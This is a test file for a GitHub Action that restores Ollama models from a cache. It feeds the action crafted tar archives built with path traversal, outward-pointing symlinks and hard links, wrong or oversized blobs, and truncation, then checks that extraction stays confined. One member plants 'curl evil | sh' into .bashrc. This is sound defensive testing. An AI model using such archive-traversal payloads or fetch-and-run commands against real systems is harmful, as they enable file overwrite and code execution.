import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { lstat, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join, relative } from 'node:path';
import { gzipSync } from 'node:zlib';
import { type ActionRun, freshStepEachTest, listFiles, type Runner } from '../helpers/action.js';
import { buildTar, type CraftedMember, membersOf, zstd } from '../helpers/cache-archive.js';
import type { CacheService } from '../helpers/cache-service.js';
import type { TestServer } from '../helpers/http.js';
import { descriptor, generateModel, pushModel, registryForFile, sha256 } from '../helpers/registry.js';

/**
 * Issue 9: a cache entry is untrusted input. Each test saves an honest entry with the real
 * @actions/cache client (the bundled action, first run), then replaces its archive with what an
 * attacker who can write to the cache scope would put there, and runs the action again on an
 * emptied HOME with canaries around the store. Every run must end with the canaries untouched,
 * exactly the model's files in the store, each verified, the rest fetched from the registry,
 * and one warning naming the entry.
 */

const MiB = 1024 * 1024;

let proxy: TestServer;
let service: CacheService;
let runner: Runner;
const model = generateModel(2 * MiB);

registryForFile(
  async (url) => {
    await pushModel(url, 'team/tiny', 'v1', model);
  },
  (p) => {
    proxy = p;
  },
);
freshStepEachTest((r, s) => {
  runner = r;
  service = s;
});

const line = () => `ollama:${proxy.url}/team/tiny:v1`;
const key = `model-pull-v1-ollama-${sha256(model.manifest)}`;
const store = () => join(runner.home, '.ollama', 'models');
const blobs = () => [model.config, ...model.layers].map(descriptor);
const weights = () => descriptor(model.layers[0]!);
const config = () => descriptor(model.config);
const blobFile = (digest: string) => join(store(), 'blobs', `sha256-${digest.slice(7)}`);
const manifestFile = () => join(store(), 'manifests', proxy.url.replace('http://', ''), 'team', 'tiny', 'v1');
/** How @actions/cache names a path in its archive: relative to the saving job's workspace. */
const member = (path: string, workspace = runner.workspace) => relative(workspace, path);

function pull(env: Record<string, string> = {}): Promise<ActionRun> {
  return runner.run({ models: line() }, { ...service.env, ...env });
}

/** The first run: pulls from the registry and saves the honest entry; returns its members. */
async function honestEntry(): Promise<{ members: CraftedMember[]; archive: Buffer }> {
  const first = await pull();
  expect(first.code).toBe(0);
  const archive = service.entry(key)?.archive;
  if (!archive) throw new Error('the first run saved no entry');
  await runner.emptyHome();
  return { members: membersOf(archive), archive };
}

async function plantCanaries(): Promise<void> {
  await writeFile(join(runner.home, '.bashrc'), 'canary: bashrc\n');
  await mkdir(join(runner.root, 'outside'), { recursive: true });
  await writeFile(join(runner.root, 'outside', 'keep.txt'), 'canary: outside\n');
}

/** Nothing outside the plan's paths, nothing unverified at a final path, the model complete. */
async function expectCleanStore(run: ActionRun, state: string): Promise<void> {
  expect(run.code).toBe(0);
  expect(run.errors()).toEqual([]);
  expect(await readFile(join(runner.home, '.bashrc'), 'utf8')).toBe('canary: bashrc\n');
  expect(await readFile(join(runner.root, 'outside', 'keep.txt'), 'utf8')).toBe('canary: outside\n');
  // Around the store (HOME, the workspace, the runner's root): nothing but the canaries.
  const around = (await listFiles(runner.root)).filter(
    (f) => !f.startsWith('home/.ollama/models/') && !f.startsWith('files/') && !f.startsWith('runner-temp/'),
  );
  expect(around).toEqual(['home/.bashrc', 'outside/keep.txt']);
  // The store: exactly the model's blobs, each hashing to its name, and its manifest.
  const expected = [
    ...blobs().map((b) => relative(store(), blobFile(b.digest))),
    relative(store(), manifestFile()),
  ].sort();
  expect(await listFiles(store())).toEqual(expected);
  for (const b of blobs()) {
    const info = await lstat(blobFile(b.digest));
    expect(info.isFile()).toBe(true);
    expect(`sha256:${sha256(await readFile(blobFile(b.digest)))}`).toBe(b.digest);
  }
  expect(sha256(await readFile(manifestFile()))).toBe(sha256(model.manifest));
  const ingest = await lstat(join(store(), '.model-pull-ingest')).catch(() => undefined);
  if (ingest) expect(ingest.isDirectory()).toBe(true);
  expect(JSON.parse(run.outputs.models!)[0].cache).toBe(state);
}

/** Digests of the blobs the registry served after request number `mark`. */
const fetchedSince = (mark: number) =>
  proxy.requests
    .slice(mark)
    .filter((r) => r.method === 'GET' && r.url.includes('/blobs/sha256:'))
    .map((r) => r.url.split('/').pop()!)
    .sort();

interface Case {
  readonly name: string;
  /** The archive the attacker stores, from the honest entry's members (or the saved archive itself). */
  readonly archive: (honest: CraftedMember[], saved: Buffer) => Buffer;
  readonly state: 'partial' | 'miss' | 'hit';
  /** Blobs that must come from the registry. */
  readonly refetched: () => readonly string[];
  /** The one warning; undefined: none. */
  readonly warning?: () => RegExp;
}

const weightsName = () => member(blobFile(weights().digest));
const configName = () => member(blobFile(config().digest));
const without = (members: CraftedMember[], ...names: string[]) =>
  members.filter((m) => !names.includes(m.name));
const esc = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
const refused = (n: number) => `^Cache entry ${esc(key)}: refused ${n} archive members?: `;
const tail = (missing: number) => `; ${missing} of 4 files are downloaded from the origin instead\\.$`;

const cases: Case[] = [
  {
    name: 'an honest entry restores byte-identical with zero origin requests',
    archive: (_honest, saved) => saved,
    state: 'hit',
    refetched: () => [],
  },
  {
    name: '../ and absolute members',
    archive: (honest) =>
      zstd(
        buildTar([
          ...honest,
          { name: '../home/.bashrc', data: Buffer.from('curl evil | sh\n') },
          { name: join(runner.root, 'outside', 'absolute.txt'), data: Buffer.from('pwned') },
          { name: '../outside/../../../escape.txt', data: Buffer.from('pwned') },
        ]),
      ),
    state: 'partial',
    refetched: () => [],
    warning: () =>
      new RegExp(
        `${refused(3)}1 × a file not in the plan \\("\\.\\./home/\\.bashrc"\\), 2 × a path outside the planned files \\(.*absolute\\.txt", "\\.\\./outside/\\.\\./\\.\\./\\.\\./escape\\.txt"\\)${tail(0)}`,
      ),
  },
  {
    name: 'symlink and hard-link members pointing out, under the planned names',
    archive: (honest) =>
      zstd(
        buildTar([
          ...without(honest, weightsName(), configName()),
          { name: weightsName(), type: '2', linkname: '../../../../outside/keep.txt' },
          { name: configName(), type: '1', linkname: '../outside/keep.txt' },
        ]),
      ),
    state: 'partial',
    refetched: () => [weights().digest, config().digest],
    warning: () => new RegExp(`${refused(2)}1 × a symlink \\(.*\\), 1 × a hard link \\(.*\\)${tail(2)}`),
  },
  {
    name: 'a member replacing the ingest folder',
    archive: (honest) => {
      const ingest = member(join(store(), '.model-pull-ingest'));
      return zstd(
        buildTar([
          { name: ingest, type: '2', linkname: '../../../outside' },
          { name: `${ingest}/sha256-${weights().digest.slice(7)}.partial`, data: Buffer.from('pwned') },
          ...honest,
        ]),
      );
    },
    state: 'partial',
    refetched: () => [],
    warning: () =>
      new RegExp(`${refused(2)}1 × a symlink \\(.*\\), 1 × a file not in the plan \\(.*\\)${tail(0)}`),
  },
  {
    name: 'extra manifests and blobs for other models',
    archive: (honest) => {
      const fake = randomBytes(1000);
      return zstd(
        buildTar([
          ...honest,
          {
            name: member(join(store(), 'manifests', 'registry.ollama.ai', 'library', 'llama3.2', 'latest')),
            data: Buffer.from(`{"schemaVersion":2,"layers":[{"digest":"sha256:${sha256(fake)}"}]}`),
          },
          { name: member(join(store(), 'blobs', `sha256-${sha256(fake)}`)), data: fake },
        ]),
      );
    },
    state: 'partial',
    refetched: () => [],
    warning: () =>
      new RegExp(`${refused(2)}2 × a file not in the plan \\(.*llama3\\.2/latest", ".*\\)${tail(0)}`),
  },
  {
    name: 'a wrong-content blob',
    archive: (honest) =>
      zstd(
        buildTar(
          honest.map((m) =>
            m.name === weightsName() ? { ...m, data: Buffer.from(m.data!.map((b) => b ^ 0xff)) } : m,
          ),
        ),
      ),
    state: 'partial',
    refetched: () => [weights().digest],
    warning: () =>
      new RegExp(`${refused(1)}1 × not the planned bytes \\("${esc(weightsName())}"\\)${tail(1)}`),
  },
  {
    name: 'a member larger than its planned size',
    archive: (honest) =>
      zstd(
        buildTar(
          honest.map((m) =>
            m.name === weightsName() ? { ...m, data: Buffer.concat([m.data!, randomBytes(100)]) } : m,
          ),
        ),
      ),
    state: 'partial',
    refetched: () => [weights().digest],
    warning: () =>
      new RegExp(
        `${refused(1)}1 × a size other than planned \\(${weights().size + 100} bytes, not ${weights().size}\\) \\("${esc(weightsName())}"\\)${tail(1)}`,
      ),
  },
  {
    name: 'a duplicate member and an oversize pax header',
    archive: (honest) =>
      zstd(
        buildTar([
          ...honest.map((m) =>
            m.name === configName() ? { ...m, pax: { comment: 'x'.repeat(200_000) } } : m,
          ),
          { name: weightsName(), data: randomBytes(weights().size) },
        ]),
      ),
    state: 'partial',
    refetched: () => [config().digest],
    warning: () =>
      new RegExp(
        `${refused(2)}(1 × an extended header larger than 65536 bytes \\(.*\\), 1 × a duplicate \\(.*\\)|1 × a duplicate \\(.*\\), 1 × an extended header larger than 65536 bytes \\(.*\\))${tail(1)}`,
      ),
  },
  {
    name: 'a truncated archive',
    archive: (honest) => {
      // Weights last, so the cut falls inside them and the small files before it are kept.
      const ordered = [...without(honest, weightsName()), honest.find((m) => m.name === weightsName())!];
      const tar = buildTar(ordered);
      return zstd(tar.subarray(0, tar.length - MiB));
    },
    state: 'partial',
    refetched: () => [weights().digest],
    warning: () =>
      new RegExp(
        `^Could not restore cache entry ${esc(key)} \\(the archive is truncated \\(it ends at byte \\d+ inside a member, \\d+ bytes short\\)\\); its files are downloaded instead\\.$`,
      ),
  },
  {
    name: 'bytes that are not zstd',
    archive: () => randomBytes(64 * 1024),
    state: 'miss',
    refetched: () => blobs().map((b) => b.digest),
    warning: () =>
      new RegExp(
        `^Could not restore cache entry ${esc(key)} \\(not a zstd or gzip archive \\(it starts with 0x[0-9a-f]{8}\\)\\); its files are downloaded instead\\.$`,
      ),
  },
  {
    name: 'zstd with --long (older clients) restores',
    archive: (honest) =>
      execFileSync('zstd', ['-q', '-c', '--long=30'], { input: buildTar(honest), maxBuffer: 64 * MiB }),
    state: 'hit',
    refetched: () => [],
  },
  {
    name: 'gzip (a runner without zstd) restores',
    archive: (honest) => gzipSync(buildTar(honest)),
    state: 'hit',
    refetched: () => [],
  },
];

describe('the action restoring a crafted cache entry', () => {
  test.each(cases)('$name', async (c) => {
    const honest = await honestEntry();
    service.replaceArchive(key, c.archive(honest.members, honest.archive));
    await plantCanaries();
    const mark = proxy.requests.length;
    const run = await pull();
    await expectCleanStore(run, c.state);
    expect(fetchedSince(mark)).toEqual([...c.refetched()].sort());
    if (c.warning) {
      expect(run.warnings()).toHaveLength(1);
      expect(run.warnings()[0]).toMatch(c.warning());
    } else {
      expect(run.warnings()).toEqual([]);
    }
    // An entry found under the key is never saved again, whatever it held.
    expect(service.count('CreateCacheEntry')).toBe(1);
  });

  test('an entry written by @actions/cache from a workspace at another depth restores completely', async () => {
    const deep = join(runner.root, 'a', 'b', 'c', 'ws');
    await mkdir(deep, { recursive: true });
    const first = await pull({ GITHUB_WORKSPACE: deep });
    expect(first.code).toBe(0);
    const names = membersOf(service.entry(key)!.archive!).map((m) => m.name);
    expect(names).toContain(member(blobFile(weights().digest), deep));
    expect(names).not.toContain(weightsName());
    await runner.emptyHome();
    await plantCanaries();
    const mark = proxy.requests.length;
    const run = await pull();
    await expectCleanStore(run, 'hit');
    expect(run.warnings()).toEqual([]);
    expect(fetchedSince(mark)).toEqual([]);
  });
});
